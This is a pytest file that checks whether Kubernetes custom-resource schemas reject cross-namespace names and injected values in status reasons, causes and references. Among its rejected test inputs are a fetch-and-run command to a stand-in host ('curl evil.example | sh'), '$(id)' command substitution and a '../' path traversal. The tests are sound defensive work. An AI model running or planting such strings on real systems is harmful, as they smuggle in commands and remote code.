"""No field of a resource can name an object of another namespace."""

import re
from pathlib import Path

import pytest

from counterfoil.i18n.reasons import CATALOGUE
from tests.support.references import CRDS, OF_OTHERS, fields, references, spec_and_status

SAID = {".status.releaseNamespace"}
"""A controller writes it for people, who look there with their own rights; no process follows it."""


@pytest.mark.parametrize("path", CRDS, ids=lambda path: path.stem)
def test_no_field_takes_a_namespace(path: Path) -> None:
    named = {name for name, _ in fields(spec_and_status(path)) if "namespace" in name.lower()}
    assert named <= SAID


@pytest.mark.parametrize("path", CRDS, ids=lambda path: path.stem)
def test_a_namespace_that_people_follow_leads_nowhere_else(path: Path) -> None:
    for where, schema in fields(spec_and_status(path)):
        if where in SAID:
            for name in (*OF_OTHERS, "unit-b.dms", "x; curl evil.example | sh #", "$(id)"):
                assert re.search(schema["pattern"], name) is None, f"{where} takes {name!r}"


WORDS = {
    "envelopeevents": {
        ".status.reason",
        ".status.conditions[].reason",
        ".status.lastError.reason",
        ".status.notice.lastError.reason",
    },
    "imports": {".status.conditions[].reason", ".status.senders[].reason"},
    "organizations": {
        ".status.conditions[].reason",
        ".status.problems[].ending",
        ".status.problems[].reason",
    },
}
"""Fields with one word, by kind: mails, console and plugin make commands of them."""


@pytest.mark.parametrize("path", CRDS, ids=lambda path: path.stem)
def test_a_reason_of_a_status_is_one_word_and_each_of_the_catalogue_is(path: Path) -> None:
    found = dict(fields(spec_and_status(path)))
    for where in WORDS.get(path.stem, {".status.conditions[].reason"}):
        pattern = found[where].get("pattern", "")
        for text in ("", "x; curl evil.example | sh #", "X -n unit-b", "--all", "$(id)", "X/y", "X\nY"):
            assert re.search(pattern, text) is None, f"{where} takes {text!r}"
        # The catalogue has each reason that the code names.
        assert [each for each in CATALOGUE if not re.search(pattern, each)] == []


CAUSES = ("failed/NameOccupied/dms", "archive/dms.contracts", "copy/dms", "key/KeyMissing", "esaw", "digest")


def test_the_cause_of_a_problem_is_made_of_words_and_names() -> None:
    (path,) = (each for each in CRDS if each.stem == "organizations")
    pattern = dict(fields(spec_and_status(path)))[".status.problems[].cause"].get("pattern", "")
    for text in (
        "",
        "archive/x;id",
        "archive/x y",
        "failed/$(id)",
        "failed/X/y/z",
        "failed/",
        "archive/../x",
    ):
        assert re.search(pattern, text) is None, text
    assert [each for each in CAUSES if not re.search(pattern, each)] == []


@pytest.mark.parametrize("path", CRDS, ids=lambda path: path.stem)
def test_a_reference_is_the_name_of_an_object_and_leads_nowhere_else(path: Path) -> None:
    assert references(path), "each kind refers to something"
    for where, name in references(path).items():
        for other in OF_OTHERS:
            assert re.search(name["pattern"], other) is None, f"{where} takes {other!r}"


@pytest.mark.parametrize("path", CRDS, ids=lambda path: path.stem)
def test_a_reference_has_no_part_but_the_name_and_keys(path: Path) -> None:
    for where, schema in fields(spec_and_status(path)):
        if where.startswith(".spec") and where.removesuffix("[]").endswith(("Ref", "Refs")):
            assert set(schema.get("properties", ())) <= {"name", "key", "keys"}, where
